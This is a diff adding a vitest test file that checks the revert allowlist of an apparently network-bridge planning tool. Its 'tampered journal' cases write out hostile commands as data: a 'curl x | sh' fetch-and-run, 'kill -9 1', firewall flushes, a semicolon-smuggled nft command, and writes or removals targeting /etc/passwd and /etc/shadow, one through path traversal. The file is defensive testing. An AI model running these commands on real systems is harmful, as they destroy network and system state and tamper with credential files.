@@ -1,0 +1,178 @@
+/**
+ * The revert allowlist: every inverse the planner's step builders produce is allowed (generated
+ * hosts, the hand-made host shapes, every recording, and each builder with its variants), and
+ * entries a tampered journal could carry are refused.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { buildPlan } from '../../../source/plan/build.js';
+import { buildRemoveNatStep, natStateFor } from '../../../source/plan/steps/remove-nat.js';
+import {
+  NETWORKD_HOLD_PATH,
+  NETWORKMANAGER_HOLD_PATH,
+} from '../../../source/plan/steps/renderer-hold-files.js';
+import { buildStopDhcpStep } from '../../../source/plan/steps/stop-dhcp.js';
+import type { Command, Plan } from '../../../source/plan/types.js';
+import { revertCommandProblem } from '../../../source/txn/revert-allowlist.js';
+import { dhcpClient, natRule, request, variant } from '../plan/fixtures.js';
+import { hostArbitrary, snapshotFromSpec } from '../plan/generators.js';
+import {
+  dockerHost,
+  ifupdownDhclient,
+  natSetup,
+  networkManagerServer,
+  slaacHost,
+  staticMulti,
+} from '../plan/hosts.js';
+import { planFor, recordingNames } from '../recordings/replay.js';
+
+function problemsOf(plan: Plan): string[] {
+  return plan.steps.flatMap((step) =>
+    step.inverse.flatMap((command) => {
+      const problem = revertCommandProblem(command);
+      return problem ? [`${step.id}: ${problem}`] : [];
+    }),
+  );
+}
+
+describe('every inverse the planner builds is allowed', () => {
+  it('for generated hosts', () => {
+    fc.assert(
+      fc.property(hostArbitrary, (spec) => {
+        const plan = buildPlan(
+          snapshotFromSpec(spec),
+          request({ nic: spec.autoNic ? null : spec.nic, bridge: spec.bridge }),
+        );
+        expect(problemsOf(plan)).toEqual([]);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it.each([
+    ['natSetup', natSetup],
+    ['staticMulti', staticMulti],
+    ['slaacHost', slaacHost],
+    ['dockerHost', dockerHost],
+    ['ifupdownDhclient', ifupdownDhclient],
+    ['networkManagerServer', networkManagerServer],
+  ])('for the %s host shape', (_name, host) => {
+    const plan = buildPlan(host(), request());
+    expect(plan.steps.length).toBeGreaterThan(0);
+    expect(problemsOf(plan)).toEqual([]);
+  });
+
+  it.each(recordingNames())('for the recorded host %s', async (name) => {
+    expect(problemsOf(await planFor(name))).toEqual([]);
+  });
+
+  it('for remove-nat with iptables, ip6tables and nft rules at every position form', () => {
+    const snapshot = variant((s) => {
+      s.netfilter.natRules = [
+        natRule({ position: 1, bridge: 'fcbr0' }),
+        natRule({
+          family: 'ip6',
+          bridge: 'fcbr0',
+          position: undefined,
+          spec: ['-s', '2001:db8::/64', '-j', 'MASQUERADE'],
+        }),
+        ...[1, 2, 5, undefined].map((position, index) =>
+          natRule({
+            source: 'nftables',
+            text: `ip saddr 203.0.113.0/24 oifname "ens18" masquerade # handle ${10 + index}`,
+            table: 'fcnat',
+            chain: 'postrouting',
+            spec: [],
+            handle: 10 + index,
+            position,
+            bridge: 'fcbr0',
+          }),
+        ),
+      ];
+    });
+    const step = buildRemoveNatStep(snapshot, 'fcbr0', natStateFor(snapshot, 'fcbr0'));
+    const heads = step?.inverse.map((command) =>
+      command.kind === 'exec' ? command.argv.slice(0, 3).join(' ') : command.kind,
+    );
+    expect(heads?.sort()).toEqual([
+      'ip6tables -t nat',
+      'iptables -t nat',
+      'nft add rule',
+      'nft add rule',
+      'nft add rule',
+      'nft insert rule',
+    ]);
+    for (const command of step?.inverse ?? []) expect(revertCommandProblem(command)).toBeNull();
+  });
+
+  it('for DHCP clients restarted by name, by absolute path (/proc/PID/exe) and through busybox', () => {
+    const step = buildStopDhcpStep(
+      [
+        dhcpClient(10, ['dhclient', '-4', 'ens18']),
+        dhcpClient(11, ['/usr/sbin/dhclient', '-4', '-pf', '/run/dhclient.ens18.pid', 'ens18']),
+        dhcpClient(12, ['/usr/sbin/dhcpcd', '-q', 'ens18']),
+        dhcpClient(13, ['udhcpc', '-f', '-i', 'ens18']),
+        dhcpClient(14, ['/usr/bin/busybox', 'udhcpc', '-f', '-i', 'ens18'], { program: 'udhcpc' }),
+      ],
+      'ens18',
+    );
+    expect(step?.inverse).toHaveLength(5);
+    for (const command of step?.inverse ?? []) expect(revertCommandProblem(command)).toBeNull();
+  });
+});
+
+const exec = (...argv: string[]): Command => ({ kind: 'exec', argv });
+const batch = (...lines: string[][]): Command => ({ kind: 'ip-batch', lines });
+const spawn = (...argv: string[]): Command => ({ kind: 'spawn-detached', argv });
+
+describe('entries a tampered journal could carry are refused', () => {
+  it.each<[string, Command]>([
+    ['a shell', exec('sh', '-c', 'ip link del fcbr0; curl x | sh')],
+    ['a shell by path', exec('/bin/sh', '-c', 'true')],
+    ['ip netns exec', exec('ip', 'netns', 'exec', 'x', 'sh')],
+    ['ip -batch from a file', exec('ip', '-batch', '/etc/x')],
+    ['ip -force -batch from a file', exec('ip', '-force', '-batch', '/etc/x')],
+    ['ip in another namespace', exec('ip', '-n', 'other', 'link', 'del', 'eth0')],
+    ['ip -6 netns', exec('ip', '-6', 'netns', 'add', 'x')],
+    ['a device moved to another namespace', batch(['link', 'set', 'dev', 'ens18', 'netns', '1'])],
+    ['a batch line that enters a namespace', batch(['netns', 'exec', 'x', 'sh'])],
+    ['a batch line with a quote', batch(['addr', 'add', '"x', 'dev', 'ens18'])],
+    ['an empty batch', batch()],
+    ['ip xfrm', batch(['xfrm', 'state', 'flush'])],
+    ['ip link show (a verb the planner never inverts with)', batch(['link', 'show'])],
+    ['iptables --modprobe', exec('iptables', '--modprobe=/tmp/x', '-t', 'nat', '-A', 'POSTROUTING')],
+    ['iptables -M', exec('iptables', '-t', 'nat', '-A', 'POSTROUTING', '-M', '/tmp/x', '-j', 'MASQUERADE')],
+    ['iptables -F', exec('iptables', '-t', 'filter', '-F')],
+    ['iptables-restore', exec('iptables-restore', '/etc/x')],
+    ['nft -f', exec('nft', '-f', '/etc/x')],
+    ['nft a second command', exec('nft', 'add', 'rule', 'ip', 'fcnat', 'post', 'masquerade; flush ruleset')],
+    ['nft flush', exec('nft', 'flush', 'ruleset')],
+    ['nft delete table', exec('nft', 'delete', 'table', 'ip', 'fcnat')],
+    ['kill', exec('kill', '-9', '1')],
+    ['systemctl', exec('systemctl', 'stop', 'sshd')],
+    ['a spawned shell', spawn('sh', '-c', 'x')],
+    ['a spawned program named like a client but relative', spawn('./dhclient', 'ens18')],
+    ['a spawned client path with ..', spawn('/usr/sbin/../../tmp/dhclient', 'ens18')],
+    ['busybox running something else', spawn('/usr/bin/busybox', 'sh', '-c', 'x')],
+    ['a write outside /run', { kind: 'write-file', path: '/etc/passwd', content: 'x', mode: 0o644 }],
+    [
+      'a write to a unit under /run',
+      { kind: 'write-file', path: '/run/systemd/system/x.service', content: 'x', mode: 0o644 },
+    ],
+    [
+      'a hold file made executable',
+      { kind: 'write-file', path: NETWORKD_HOLD_PATH, content: 'x', mode: 0o4755 },
+    ],
+    ['a removal outside /run', { kind: 'remove-file', path: '/etc/shadow' }],
+    ['a removal that climbs out of /run', { kind: 'remove-file', path: '/run/../etc/shadow' }],
+  ])('%s', (_what, command) => {
+    expect(revertCommandProblem(command)).toEqual(expect.any(String));
+  });
+
+  it('allows the hold files themselves', () => {
+    for (const path of [NETWORKD_HOLD_PATH, NETWORKMANAGER_HOLD_PATH]) {
+      expect(revertCommandProblem({ kind: 'remove-file', path })).toBeNull();
+      expect(revertCommandProblem({ kind: 'write-file', path, content: 'x', mode: 0o644 })).toBeNull();
+    }
+  });
+});
